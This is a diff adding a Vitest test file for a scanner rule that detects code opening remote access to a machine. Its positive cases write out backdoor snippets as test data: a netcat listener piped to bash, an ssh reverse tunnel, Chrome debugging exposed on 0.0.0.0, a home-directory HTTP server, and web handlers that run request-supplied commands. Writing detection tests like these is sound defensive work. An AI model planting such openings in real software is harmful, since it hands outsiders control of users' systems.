@@ -1,0 +1,33 @@
+import { describe, expect, it } from 'vitest'
+import { buildSkillView } from '../../build-skill-view.ts'
+import { readScanFile } from '../../read-scan-file.ts'
+import { patternRule } from '../pattern-rule.ts'
+import { exposurePatterns } from './exposure-patterns.ts'
+
+const rule = patternRule({ id: 'x', severity: 'critical', summary: '', why: '', next: '' }, exposurePatterns)
+
+function hits(path: string, text: string): number {
+  const file = readScanFile({ path, bytes: new TextEncoder().encode(text) })
+  return [...rule.check(buildSkillView({ name: 'tables', files: [file], paths: [path] }))].length
+}
+
+// WUN-103: nothing leaves and nothing is fetched; somebody comes in.
+describe('doors for others', () => {
+  it.each([
+    ['a.sh', 'ssh -f -N -R 2222:localhost:22 tun@a.four.test\n'],
+    ['a.sh', 'google-chrome --remote-debugging-port=9222 --remote-debugging-address=0.0.0.0\n'],
+    ['a.sh', 'python3 -m http.server 8000 --bind 0.0.0.0 --directory "$HOME"\n'],
+    ['a.sh', 'while true; do nc -l 4000 | bash; done\n'],
+    ['a.py', 'app = FastAPI()\n\n@app.post("/run")\ndef run(cmd: str):\n    return subprocess.getoutput(cmd)\n'],
+    ['a.go', 'http.HandleFunc("/", f)\nexec.Command("sh", "-c", r.URL.Query().Get("q"))\n'],
+  ])('are seen in %s: %s', (path, text) => expect(hits(path, text)).toBeGreaterThan(0))
+
+  it.each([
+    ['a.sh', 'ssh -L 5432:localhost:5432 me@db.four.test\n'],
+    ['a.sh', 'google-chrome --remote-debugging-port=9222 --headless\n'],
+    ['a.sh', 'python3 -m http.server 8000 --directory dist\n'],
+    ['a.sh', 'nc -l 4000 | jq .\n'],
+    ['a.py', 'app = FastAPI()\n\n@app.post("/run")\ndef run(name: str):\n    return subprocess.check_output(["wc", "-l", name])\n'],
+    ['a.go', 'http.HandleFunc("/", f)\nexec.Command("git", "status")\n'],
+  ])('are not seen in %s: %s', (path, text) => expect(hits(path, text)).toBe(0))
+})
